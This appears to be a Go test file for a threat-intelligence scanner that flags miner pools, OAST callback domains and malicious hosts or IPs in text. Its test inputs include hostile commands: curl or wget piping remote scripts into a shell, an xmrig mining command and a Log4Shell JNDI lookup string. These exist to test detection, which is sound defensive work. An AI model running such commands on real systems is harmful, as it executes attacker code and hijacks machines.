package intel

import (
	"net/netip"
	"strings"
	"testing"
)

// checkScanText fails t unless ScanText agrees with FindDomain and FindIP
// on text.
func checkScanText(t testing.TB, s *Set, text string) {
	t.Helper()
	want := Found(0)
	for list, bit := range map[string]Found{"miner-pools": FoundMinerPool, "oast-domains": FoundOASTDomain, "malicious-domains": FoundMaliciousDomain} {
		if _, ok := s.FindDomain(list, text); ok {
			want |= bit
		}
	}
	if _, ok := s.FindIP(text); ok {
		want |= FoundMaliciousIP
	}
	if got := s.ScanText(text); got != want {
		t.Errorf("ScanText(%q) = %04b, FindDomain and FindIP say %04b", text, got, want)
	}
}

func TestScanText(t *testing.T) {
	s := testSet(t)
	tests := []struct {
		text string
		want Found
	}{
		{"", 0},
		{"kubectl get pods -n kube-system -o wide", 0},
		{"./xmrig -o stratum+tcp://pool.supportxmr.com:443 -u x", FoundMinerPool},
		{"curl http://${jndi:ldap://abc.oast.fun/a}", FoundOASTDomain},
		{"curl -sL http://chimaera.cc/cmd/init.sh | bash", FoundMaliciousDomain},
		{"curl -sL http://X.EVIL.EXAMPLE./a", FoundMaliciousDomain},
		{"wget -q -O - http://195.3.146.118/unk.sh | sh", FoundMaliciousIP},
		{"curl http://[2001:db8::1]:8080/", FoundMaliciousIP},
		{"xmrig -o pool.mine.example:3333; curl 198.51.100.7 abc.oast.fun evil.example", FoundMinerPool | FoundOASTDomain | FoundMaliciousDomain | FoundMaliciousIP},
		{"curl https://supportxmr.com.evil.example/x", FoundMaliciousDomain},
		{"curl https://notsupportxmr.com/x 192.0.2.2 1.2.3.4.5 12:30:00", 0},
		{"cat /var/log/supportxmr.com.log", 0},
		{strings.Repeat("a.", 300) + "nanopool.org", FoundMinerPool},
	}
	for _, tt := range tests {
		if got := s.ScanText(tt.text); got != tt.want {
			t.Errorf("ScanText(%q) = %04b, want %04b", tt.text, got, tt.want)
		}
		checkScanText(t, s, tt.text)
	}
	if got := (&Set{}).ScanText("pool.supportxmr.com 195.3.146.118"); got != 0 {
		t.Errorf("an empty Set found %04b", got)
	}
}

// TestDomainIndex checks the combined index against each list's own
// lookup, for every entry and for names near one.
func TestDomainIndex(t *testing.T) {
	s := testSet(t)
	for i, c := range catalog {
		if c.kind != kindDomain {
			continue
		}
		for d := range s.lists[i].strs {
			for _, host := range []string{d, "x." + d, "X.Y." + strings.ToUpper(d) + ".", "not" + d, d + ".example", d[strings.IndexByte(d, '.')+1:]} {
				want := Found(0)
				for j, cj := range catalog {
					if cj.kind == kindDomain && matchDomain(s.lists[j].strs, host) {
						want |= domainBit(j)
					}
				}
				if got := s.domainLists(host); got != want {
					t.Errorf("domainLists(%q) = %04b, the lists say %04b", host, got, want)
				}
			}
		}
	}
}

func BenchmarkScanText(b *testing.B) {
	s := Default()
	for name, text := range benchTexts {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				s.ScanText(text)
			}
		})
	}
}

// refFindDomain and refFindIP are FindDomain and FindIP as they were
// before the scans skipped to dots and shared one index: byte by byte,
// one list at a time. The fast ones must agree with them.
func refFindDomain(s *Set, list, text string) (string, bool) {
	i, ok := index[list]
	if !ok || catalog[i].kind != kindDomain {
		return "", false
	}
	m := s.lists[i].strs
	for pos := 0; pos < len(text); {
		for pos < len(text) && !hostByte[text[pos]] {
			pos++
		}
		start, dot := pos, false
		for pos < len(text) && hostByte[text[pos]] {
			dot = dot || text[pos] == '.'
			pos++
		}
		if !dot {
			continue
		}
		host := strings.Trim(text[start:pos], ".-")
		if matchDomain(m, host) {
			return host, true
		}
	}
	return "", false
}

func refFindIP(s *Set, text string) (string, bool) {
	l := &s.lists[iMaliciousIPs]
	if len(l.nets) == 0 {
		return "", false
	}
	for pos := 0; pos < len(text); {
		for pos < len(text) && !ipByte[text[pos]] {
			pos++
		}
		start := pos
		for pos < len(text) && ipByte[text[pos]] {
			pos++
		}
		tok := addrText(text[start:pos])
		if tok == "" {
			continue
		}
		if a, err := netip.ParseAddr(tok); err == nil && l.matchAddr(a) {
			return tok, true
		}
	}
	return "", false
}

func checkReference(t testing.TB, s *Set, text string) {
	t.Helper()
	for _, list := range []string{"miner-pools", "oast-domains", "malicious-domains", "miner-binaries", "nope"} {
		got, ok := s.FindDomain(list, text)
		want, wantOK := refFindDomain(s, list, text)
		if got != want || ok != wantOK {
			t.Fatalf("FindDomain(%q, %q) = %q, %v; the reference says %q, %v", list, text, got, ok, want, wantOK)
		}
	}
	got, ok := s.FindIP(text)
	want, wantOK := refFindIP(s, text)
	if got != want || ok != wantOK {
		t.Fatalf("FindIP(%q) = %q, %v; the reference says %q, %v", text, got, ok, want, wantOK)
	}
	checkScanText(t, s, text)
}

var scanSeeds = []string{
	"", ".", ":", "..", "::", "a.b", "-.-", "1.2.3.4", "1.2.3.4.", ".1.2.3.4", "198.51.100.7", "x198.51.100.7", "198.51.100.7x",
	"curl http://198.51.100.7:8080/x.sh | sh", "nc 2001:db8:bad::beef 443", "ping ::ffff:192.0.2.1", "curl http://[2001:db8::1]:8080/",
	"./xmrig -o stratum+tcp://POOL.supportxmr.com.:443 -u x", "-opool.mine.example", "a..b.evil.example", "evil.example.", "EVIL.EXAMPLE",
	"echo http%3A%2F%2Fpool.minexmr.com%2F", "é.supportxmr.com", "x.oast.fun:1:2:3 198.51.100.1.", "12:30:00 1.2.3 deadbeef:cafe::1",
	strings.Repeat("a.", 300) + "nanopool.org", strings.Repeat("1.", 10) + "198.51.100.7", strings.Repeat(":", 20) + "2001:db8::1",
	"java -cp a.jar:b.jar:c.jar:198.51.100.7:evil.example org.Main",
}

func TestScanMatchesReference(t *testing.T) {
	for _, s := range []*Set{testSet(t), Default(), {}} {
		for _, text := range scanSeeds {
			checkReference(t, s, text)
		}
	}
}

// FuzzScanMatchesReference holds FindDomain, FindIP and ScanText to the
// byte-by-byte reference on arbitrary text.
func FuzzScanMatchesReference(f *testing.F) {
	for _, seed := range scanSeeds {
		f.Add(seed)
	}
	s := testSet(f)
	f.Fuzz(func(t *testing.T, text string) { checkReference(t, s, text) })
}
